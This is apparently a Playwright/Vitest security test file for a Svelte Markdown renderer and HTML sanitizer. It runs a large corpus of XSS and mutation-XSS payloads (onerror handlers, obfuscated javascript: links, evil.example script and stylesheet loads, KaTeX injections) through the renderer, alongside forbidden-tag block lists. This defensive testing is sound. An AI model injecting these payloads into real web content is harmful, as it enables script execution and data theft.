import { svelte } from '@sveltejs/vite-plugin-svelte';
import type { Browser, Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../support/browser.ts';

const ORIGIN = 'https://leeward.test';
const POLICY =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; " +
  "connect-src 'self'; frame-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";

const FORBIDDEN_TAGS =
  'script,style,link,meta,base,iframe,frame,object,embed,applet,img,picture,source,video,audio,track,form,input,' +
  'select,textarea,template,noscript,math,foreignObject,animate,set,use,image,portal,dialog,details,marquee';
const FORBIDDEN_ATTRIBUTES =
  /^(?:on.*|href|xlink:href|src|srcset|srcdoc|data|action|formaction|poster|background|style|ping|target|id|name|is|title|value)$/;

/** The page under test: the components of the app and nothing else. */
const ENTRY = `
import { flushSync, mount, unmount } from 'svelte';
import MarkdownView from '/src-renderer/components/MarkdownView.svelte';
import { reactive } from 'reactive.svelte.js';
import { toSafeFragment } from '/src-renderer/lib/markdown/sanitize.ts';
const labels = { copy: 'Copy', copied: 'Copied', wrap: 'Wrap', plain: 'Text', table: 'Table', save: 'Save', formula: 'Formula', showLess: 'Less', showAll: (lines) => lines };
const host = document.getElementById('host');
let shown;
globalThis.fired = [];
globalThis.followed = [];
globalThis.alert = (value) => globalThis.fired.push(String(value));
document.addEventListener('securitypolicyviolation', (event) => globalThis.fired.push('policy ' + event.violatedDirective));
globalThis.clear = () => { globalThis.fired.length = 0; if (shown) unmount(shown); shown = undefined; host.replaceChildren(); };
globalThis.renderMarkdown = (text, streaming) => {
  globalThis.clear();
  shown = mount(MarkdownView, { target: host, props: { text, streaming, labels, onlink: (address) => globalThis.followed.push(address) } });
  flushSync();
};
globalThis.renderGrowing = () => {
  globalThis.clear();
  const props = reactive({ text: '', streaming: true, labels });
  shown = mount(MarkdownView, { target: host, props });
  flushSync();
  return props;
};
globalThis.renderHtml = (html) => { globalThis.clear(); host.append(toSafeFragment(html)); };
globalThis.faults = () => {
  const list = [...globalThis.fired];
  for (const element of host.querySelectorAll('*')) {
    // The icons of the code block's own buttons.
    if (element.closest('svg.icon') !== null) continue;
    // A formula is built by its program: MathML and sizes, and none of what could run, load or lead anywhere.
    if (element.closest('.katex') !== null) {
      for (const { name, value } of element.attributes)
        if (/^(?:on|href|src|xlink|id$|name$|data-)/.test(name) || /url\\(|javascript:/i.test(value)) list.push(element.outerHTML);
      if (element.matches('script, iframe, img, a, svg image, svg use, svg foreignObject, style')) list.push(element.outerHTML);
      continue;
    }
    const foreign = element.namespaceURI !== 'http://www.w3.org/1999/xhtml';
    if (foreign || element.matches(${JSON.stringify(FORBIDDEN_TAGS)})) list.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      const leads = name !== 'aria-label' && /javascript:|vbscript:|data:text/i.test(value);
      if (leads || ${String(FORBIDDEN_ATTRIBUTES)}.test(name)) list.push(element.tagName + ' ' + name + '=' + value);
    }
  }
  return list;
};
// Every beginning of the text is shown once, as a growing block, then more and more of it in one view.
globalThis.streamMarkdown = (text) => {
  const list = [];
  for (let end = 1; end <= text.length; end += 1) {
    globalThis.renderMarkdown(text.slice(0, end), true);
    list.push(...globalThis.faults());
  }
  const props = globalThis.renderGrowing();
  for (let end = 1; end <= text.length; end += 1) {
    props.text = text.slice(0, end);
    flushSync();
    list.push(...globalThis.faults());
  }
  return list;
};
globalThis.ready = true;
`;

/** Props that may change: only a module with runes can make them. */
const REACTIVE = 'export function reactive(object) { const state = $state(object); return state; }';

/** Markdown that tries to run a script, load something, lead somewhere or change the page. */
const MARKDOWN = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>\n\ntext',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<p id="host" name="fired">clobber</p>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;&#97;&#118;&#97;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript\u200b:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](https://evil.example "onmouseover=alert(1)")',
  "[x](https://evil.example '\"><img src=x onerror=alert(1)>')",
  '[x](https://evil.example/"onmouseover="alert(1))',
  "[x](https://evil.example/'onmouseover='alert(1))",
  '[<img src=x onerror=alert(1)>](https://evil.example)',
  '[x]: javascript:alert(1)\n\n[x] and [y][x]',
  '[x]: https://evil.example "\\"><script>alert(1)</script>"\n\n[x]',
  '[x]: data:text/html,x\n\n![x]',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '<https://evil.example/"onclick="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  'www.evil.example"onmouseover=alert(1)',
  '![x](x" onerror="alert(1))',
  '![x](https://evil.example/track.png)',
  '![<img src=x onerror=alert(1)>](x)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  '```js" onmouseover="alert(1)\ncode\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```',
  '- ```html\n  <script>alert(1)</script>\n  ```',
  '# <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '- <svg/onload=alert(1)>\n- [x] <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>** _<svg onload=alert(1)>_ ~~<script>alert(1)</script>~~',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<img src=x onerror=alert(1)\\>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<p title="`<img src=x onerror=alert(1)>`">',
  '<a title="a\n\n</a><img src=x onerror=alert(1)>">',
  '\uE000<img src=x onerror=alert(1)>\uE000',
  '<im\u0000g src=x onerror=alert(1)>',
  '[x](https://evil.example/\u202egnp.exe)',
  '[constructor] [__proto__][hasOwnProperty]',
  '$<img src=x onerror=alert(1)>$ and \\(<script>alert(1)</script>\\)',
  '$$<svg onload=alert(1)>$$',
  '\\[\n<img src=x onerror=alert(1)> = 1\n\\]',
  '$x" onmouseover="alert(1)$ and $\\text{</span><img src=x onerror=alert(1)>}$',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  '$\\htmlData{href=javascript:alert(1)}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlId{fired}{x}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$$\n\\unicode{<script>alert(1)</script>}\n$$',
  '```constructor\nalert(1)\n```',
];

/** HTML given to the sanitizer alone: it must hold even if the parser before it fails. */
const HTML = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example" target=_blank>x</a>',
  '<a data-href="javascript:alert(1)">x</a>',
  '<a role="link" tabindex="5" data-href="https://a.b/" onclick="alert(1)" style="position:fixed">x</a>',
  '<p class="shell toast" id="fired" name="fired" dir="auto">x</p>',
  '<code class="language-x app-overlay">x</code>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></table></mtext></math>',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
  '<template><script>alert(1)</script></template>',
  '<div data-table="x" data-align="center;" data-evil="1"><table><td background="https://evil.example/x">x</table></div>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<option><iframe></select><b><script>alert(1)</script>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<p is="x-evil">x</p><x-evil onload=alert(1)></x-evil>',
  '<ol start="1;alert(1)"><li value="1" onclick=alert(1)>x</ol>',
];

let browser: Browser;
let page: Page;
const requests: string[] = [];

async function bundle(): Promise<Map<string, string>> {
  const result = await build({
    configFile: false,
    logLevel: 'error',
    root: new URL('../..', import.meta.url).pathname,
    plugins: [
      svelte({ configFile: false }),
      {
        name: 'entry',
        resolveId: (id) => (id === 'entry.js' || id === 'reactive.svelte.js' ? `/virtual/${id}` : null),
        load: (id) =>
          id === '/virtual/entry.js' ? ENTRY : id === '/virtual/reactive.svelte.js' ? REACTIVE : null,
      },
    ],
    build: {
      write: false,
      assetsInlineLimit: 0,
      target: 'es2024',
      modulePreload: { polyfill: false },
      rolldownOptions: { input: 'entry.js' },
    },
  });
  const files = new Map<string, string>();
  for (const output of Array.isArray(result) ? result : [result]) {
    if (!('output' in output)) continue;
    for (const file of output.output) {
      files.set(`/${file.fileName}`, file.type === 'chunk' ? file.code : String(file.source));
      if (file.type === 'chunk' && file.isEntry) files.set('entry', `/${file.fileName}`);
    }
  }
  return files;
}

beforeAll(async () => {
  const files = await bundle();
  const html = `<!doctype html><html><head><script type="module" src="${files.get('entry') ?? ''}"></script></head><body><div id="host"></div></body></html>`;
  browser = await launchBrowser();
  page = await browser.newPage();
  page.on('dialog', (dialog) => void dialog.dismiss());
  await page.route('**/*', async (route) => {
    const url = new URL(route.request().url());
    const body = url.pathname === '/' ? html : files.get(url.pathname);
    if (url.origin !== ORIGIN || body === undefined) {
      requests.push(url.href);
      return route.abort();
    }
    const contentType =
      url.pathname === '/' ? 'text/html' : url.pathname.endsWith('.css') ? 'text/css' : 'text/javascript';
    return route.fulfill({ body, contentType, headers: { 'content-security-policy': POLICY } });
  });
  await page.goto(`${ORIGIN}/`);
  await page.waitForFunction('globalThis.ready === true');
});

afterAll(async () => browser.close());

/** Elements and attributes that must not be there, what has run, and what was asked for. */
async function faults(): Promise<string[]> {
  const found = await page.evaluate<string[]>('faults()');
  return [...found, ...requests];
}

/** Presses every link and waits until what that could start would have started. */
async function pressLinks(): Promise<string[]> {
  const addresses = await page.evaluate(async () => {
    for (const link of document.querySelectorAll<HTMLElement>('#host a')) link.click();
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    return (globalThis as { followed?: string[] }).followed?.splice(0) ?? [];
  });
  expect(page.url()).toBe(`${ORIGIN}/`);
  return addresses;
}

function render(name: 'renderMarkdown' | 'renderHtml', ...input: (string | boolean)[]): Promise<unknown> {
  return page.evaluate(`${name}(${input.map((value) => JSON.stringify(value)).join(', ')})`);
}

describe('the check', () => {
  it.each([
    '<img alt="">',
    '<p onclick="">x</p>',
    '<a href="https://a.b">x</a>',
    '<p style="color: red">x</p>',
    '<svg></svg>',
  ])('sees %j', async (html) => {
    await page.evaluate(`clear(); document.getElementById('host').innerHTML = ${JSON.stringify(html)}`);
    expect(await faults()).not.toEqual([]);
  });
});

describe('hostile Markdown', () => {
  it('is a corpus of at least 60', () => expect(MARKDOWN.length).toBeGreaterThanOrEqual(60));

  it.each(MARKDOWN)('does nothing: %j', async (text) => {
    await render('renderMarkdown', text, false);
    expect(await faults()).toEqual([]);
    for (const address of await pressLinks()) expect(address).toMatch(/^https?:\/\//);
    expect(await faults()).toEqual([]);
  });

  it.each(MARKDOWN)('does nothing while it streams: %j', async (text) => {
    expect(await page.evaluate<string[]>(`streamMarkdown(${JSON.stringify(text)})`)).toEqual([]);
    expect(requests).toEqual([]);
  });
});

describe('the sanitizer alone', () => {
  it.each(HTML)('lets nothing through: %j', async (html) => {
    await render('renderHtml', html);
    // The policy also reports what it stops in the inert document in which the sanitizer reads.
    expect((await faults()).filter((fault) => !fault.startsWith('policy '))).toEqual([]);
    const classes = await page.evaluate(() =>
      [...document.querySelectorAll('#host [class]')].map((element) => element.className),
    );
    for (const name of classes) expect(name).toMatch(/^(?:hljs-|language-)[\w+#.-]+$/);
  });
});

describe('ordinary Markdown in the page', () => {
  it('is shown with links that report their address and never navigate', async () => {
    await render(
      'renderMarkdown',
      'See [this](https://example.com/a?b=1&c=2) and ![pic](https://example.com/p.png).',
      false,
    );
    expect(await page.locator('#host').innerText()).toBe('See this and pic (https://example.com/p.png).');
    await page.getByRole('link', { name: 'this' }).click();
    await page.getByRole('link', { name: 'this' }).press('Enter');
    expect(await page.evaluate('followed.splice(0)')).toEqual([
      'https://example.com/a?b=1&c=2',
      'https://example.com/a?b=1&c=2',
    ]);
    expect(page.url()).toBe(`${ORIGIN}/`);
  });

  it('colours code by classes, under the policy', async () => {
    await render('renderMarkdown', '```python\nimport os  # note\n```', false);
    await page.waitForSelector('#host .hljs-keyword');
    expect(await page.locator('#host code').innerText()).toBe('import os  # note');
    expect(await faults()).toEqual([]);
  });
});
